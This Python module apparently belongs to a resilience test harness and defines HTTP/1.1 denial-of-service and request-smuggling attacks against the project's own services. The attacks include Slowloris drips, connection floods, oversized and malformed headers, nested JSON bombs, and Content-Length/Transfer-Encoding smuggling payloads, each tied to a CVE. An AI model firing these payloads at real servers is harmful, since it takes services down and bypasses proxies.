"""over_http1 -- attacks over TCP and HTTP/1.1."""

from __future__ import annotations

from script import ADMIN, AGAIN, DEMO, GRPC, HTTP, NOTES, Line, Script, attack, forever

LONG_FIELDS = b"".join(b"X-%d: %s\r\n" % (i, b"y" * 8000) for i in range(50))  # 400 KB
CHUNKED = "Transfer-Encoding: chunked"
DRIP_S = 0.2


def unfinished(head: bytes) -> bytes:
    """Without the empty line at its end."""
    return head.removesuffix(b"\r\n")


def posted(line: Line, *fields: str) -> bytes:
    path = "/v1/notes" if line.target.service == "notes" else "/demo/hello"
    return line.target.head("POST", path, "Content-Type: application/json", *fields)


# ---- connections ----


@attack(on=(*HTTP, *GRPC, *ADMIN), connections=10_000)
def silent_connections(line: Line) -> Script:
    """CVE-2020-8663: 10,000 connections that send nothing."""
    yield from ()


@attack(on=(*HTTP, *GRPC, *ADMIN), connections=100)
def connection_churn(line: Line) -> Script:
    """CVE-2023-4785: connections that are opened and reset as fast as possible, 100 at a time."""
    yield line.target.head()[:5]
    yield AGAIN


# ---- what is not finished ----


@attack(on=(*HTTP, *ADMIN), connections=400, exhausts=DEMO)
def half_sent_heads(line: Line) -> Script:
    """CVE-2018-12121: 400 heads of requests of 400 KB each, without their ends."""
    yield unfinished(line.target.head()) + LONG_FIELDS


@attack(on=(*HTTP, *ADMIN), connections=900, exhausts=DEMO)
def half_sent_bodies(line: Line) -> Script:
    """CVE-2018-12122: 900 bodies of which 64,000 of 65,000 bytes are sent."""
    yield posted(line, "Content-Length: 65000") + b"x" * 64_000


@attack(on=(*HTTP, *ADMIN), connections=500)
def dripped_heads(line: Line) -> Script:
    """CVE-2019-5737: Slowloris. 500 connections send a byte of a head every 0.2 s."""
    yield unfinished(line.target.head()) + b"X: "
    yield from forever(DRIP_S, b"y")


@attack(on=HTTP, connections=500)
def dripped_bodies(line: Line) -> Script:
    """CVE-2018-12122: 500 connections send a byte of a body every 0.2 s, half of them as a chunk."""
    chunked = line.number % 2 == 0
    yield posted(line, CHUNKED if chunked else "Content-Length: 65000")
    yield from forever(DRIP_S, b"1\r\nx\r\n" if chunked else b"x")


@attack(on=HTTP, connections=1000)
def unsent_bodies(line: Line) -> Script:
    """CVE-2024-24791: 1,000 requests with "Expect: 100-continue" whose bodies never come."""
    yield posted(line, "Content-Length: 10", "Expect: 100-continue")


@attack(on=(*HTTP, *ADMIN), connections=2500)
def busy_connections(line: Line) -> Script:
    """CVE-2020-8663: more connections than the listener takes, each with a request in progress, so that none is idle: a byte
    of its body comes every 9 s."""
    yield posted(line, "Content-Length: 100")
    yield from forever(b"x", 9.0)


@attack(on=HTTP, connections=20)
def long_trailers(line: Line) -> Script:
    """RFC 9112, 7.1.2: trailers without end behind a chunk."""
    yield posted(line, CHUNKED) + b"1\r\nx\r\n0\r\n"
    yield from forever(b"X: " + b"y" * 8000 + b"\r\n")


# ---- bodies ----


@attack(on=HTTP, connections=20)
def tiny_chunks(line: Line) -> Script:
    """CVE-2020-8659: bodies in chunks of one byte, over 20 connections."""
    yield posted(line, CHUNKED)
    yield from forever(b"1\r\nx\r\n" * 10_000)


@attack(on=HTTP, connections=20)
def chunk_extensions(line: Line) -> Script:
    """CVE-2023-39326 and CVE-2024-22019: chunks of one byte with extensions of 60 KB, and an extension without end."""
    yield posted(line, CHUNKED)
    if line.number % 2 == 0:
        yield from forever(b"1;" + b"a" * 60_000 + b"\r\nx\r\n")
    yield b"1;"
    yield from forever(b"a" * 60_000)


@attack(on=NOTES, connections=8)
def nested_json(line: Line) -> Script:
    """CVE-2026-48042: JSON bodies of 60,000 arrays or objects, each inside the one before."""
    body = b"[" * 60_000 if line.number % 2 == 0 else b'{"a":' * 12_000
    yield from forever(posted(line, f"Content-Length: {len(body)}", f"Idempotency-Key: a{line.number}") + body)


@attack(on=NOTES, connections=8)
def many_members(line: Line) -> Script:
    """CVE-2013-6401: JSON objects of 6,000 members, as many as fit into a body."""
    body = b"{" + b",".join(b'"%d":0' % number for number in range(6_000)) + b"}"
    yield from forever(posted(line, f"Content-Length: {len(body)}", f"Idempotency-Key: a{line.number}") + body)


# ---- heads ----


@attack(on=(*HTTP, *ADMIN), connections=20)
def many_fields(line: Line) -> Script:
    """CVE-2019-15226: heads with 20,000 fields of one letter each."""
    yield from forever(unfinished(line.target.head()) + b"a:\r\n" * 20_000 + b"\r\n")


@attack(on=HTTP, connections=20)
def long_names(line: Line) -> Script:
    """CVE-2020-12605: requests with targets and names of fields of 60 KB, over 20 connections."""
    path = line.target.path
    long_path = path + ("&" if "?" in path else "?") + "x" * 60_000
    yield from forever(line.target.head("GET", long_path), line.target.head("GET", "", "n" * 60_000 + ": x"))


@attack(on=HTTP, connections=60)
def many_parameters(line: Line) -> Script:
    """CVE-2011-4885: queries of 95,000 parameters. Where a reply can be delayed, it is."""
    last = "delay=60000" if line.target.service == "demo" else "x"
    yield line.target.head("GET", line.target.path.partition("?")[0] + "?" + "tag&" * 95_000 + last)


MALFORMED = (
    b"GET /demo/hello HTTP/1.1\r\n\r\n",  # CVE-2019-18838: no Host
    b"GET /demo/hello HTTP/1.1\r\nHost: a b/c@d\r\n\r\n",
    b"GET /demo/hello HTTP/1.1\r\nHost: a\r\nX: a\0b\r\n\r\n",  # CVE-2019-9900
    b"GET /demo/hello HTTP/1.1\r\nHost: a\r\nContent-Length : 2\r\n\r\n{}",  # CVE-2019-18802
    b"GET /demo/hello HTTP/1.1\r\nHost: " + b"h" * 70_000 + b"\r\n\r\n",  # CVE-2019-18801
    b"GET /demo/hello HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999999\r\n\r\n",  # CVE-2021-40346
    b"GET /demo/hello HTTP/1.1\r\nHost: a\r\nContent-Length:\r\n\r\n",  # CVE-2023-40225
    b"POST /demo/hello HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nx",
    b"POST /demo/hello HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0xd\r\n{}",
    b"POST /demo/hello HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n{}",
    b"GET * HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET http://[::1 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /%zz%00/../.. HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /v1/notes?tag=%zz HTTP/1.1\r\nHost: a\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",  # TLS
    b"\r\n" * 5000,
    bytes(range(256)) * 40,
)


@attack(on=(*HTTP, *GRPC, *ADMIN), connections=20)
def malformed_heads(line: Line) -> Script:
    """CVE-2019-18838, CVE-2019-9900, CVE-2019-18802 and others: requests that are no HTTP/1.1, one for each connection."""
    yield MALFORMED[(line.number + line.turn) % len(MALFORMED)]
    yield 0.01
    yield AGAIN


SECOND = "GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
SMUGGLED = (
    # Fields of the first request, and its body, which hides a second request.
    ("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + SECOND),
    ("Content-Length: 2\r\nContent-Length: 80\r\n", "{}" + SECOND),
    ("Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n", SECOND),
    ("Transfer-Encoding : chunked\r\nContent-Length: 80\r\n", "0\r\n\r\n" + SECOND),
    ("X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n", SECOND),
    ("Content-Length: 0\nX: a\r\n", SECOND),
    ("Transfer-Encoding: chunked\r\n", "0;\n\r\n\r\n" + SECOND),
)


@attack(on=HTTP, connections=len(SMUGGLED), keeps=True)
def smuggled_requests(line: Line) -> Script:
    """CVE-2022-1705 and CVE-2025-22871: requests whose length two servers understand differently, with a second request in
    what one of them takes for the body. The second one must not be answered."""
    fields, rest = SMUGGLED[line.number]
    yield posted(line).replace(b"\r\n\r\n", f"\r\n{fields}\r\n{rest}".encode())
    yield 0.3
    if line.received.count(b"HTTP/1.1 ") > 1:
        line.faults.append(f"a second request is answered after {fields.strip()!r}")
    yield AGAIN


@attack(on=(*HTTP, *ADMIN), connections=8)
def pipelined_connect(line: Line) -> Script:
    """h2o/h2o#3542: CONNECT requests that are refused, with further requests behind them in the same segment."""
    connect = line.target.head("CONNECT", "test:80")
    yield (connect + line.target.head()) * 20
    yield 0.02
    yield AGAIN


# ---- replies ----


@attack(on=HTTP, connections=100, reads=False)
def unread_pipeline(line: Line) -> Script:
    """CVE-2020-8661: requests that are refused, one behind the other over 100 connections, whose answers are not read."""
    yield from forever(line.target.head("GET", "/none") * 1000)


@attack(on=(*HTTP, *ADMIN), connections=1000, reads=False, exhausts=HTTP)
def unread_pipelines_of_many(line: Line) -> Script:
    """CVE-2020-8661: the same over 1,000 connections: what each holds, in the process and in the kernel, is little."""
    yield from unread_pipeline(line)


@attack(on=(*HTTP, *ADMIN), connections=400, reads=False)
def unread_last_replies(line: Line) -> Script:
    """CVE-2009-1926: 400 requests for large replies with "Connection: close", whose replies are not read: the server closes the
    connections, and its kernel keeps what was not taken."""
    yield line.target.head("GET", line.target.large, "Connection: close")


@attack(on=("demo", "demo:admin", "route-guide:admin"), connections=20, reads=False)
def unread_metrics(line: Line) -> Script:
    """CVE-2020-8661: 20 clients that ask for /metrics without end and read nothing."""
    yield from forever(line.target.head("GET", "/metrics") * 100)


@attack(on=("demo", "demo:admin"), connections=100)
def metrics_flood(line: Line) -> Script:
    """CVE-2022-21698: /metrics as fast as possible over 100 connections, with methods and paths that nobody knows."""
    target, number = line.target, 0
    while True:
        yield target.head("GET", "/metrics") + target.head(f"M{number}", "/metrics") + target.head("GET", f"/x{number}")
        number += 1


# ---- upgrades ----

UPGRADE = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAQAAAAA")


@attack(on=HTTP, connections=50)
def upgrade_flood(line: Line) -> Script:
    """CVE-2020-13934 and CVE-2026-58055: upgrades to cleartext HTTP/2, some of them with a body, each on a new connection."""
    if line.number % 2:
        yield posted(line, *UPGRADE, "Content-Length: 2") + b"{}" + line.target.head()
    else:
        yield line.target.head("GET", "", *UPGRADE)
    yield 0.01
    yield AGAIN
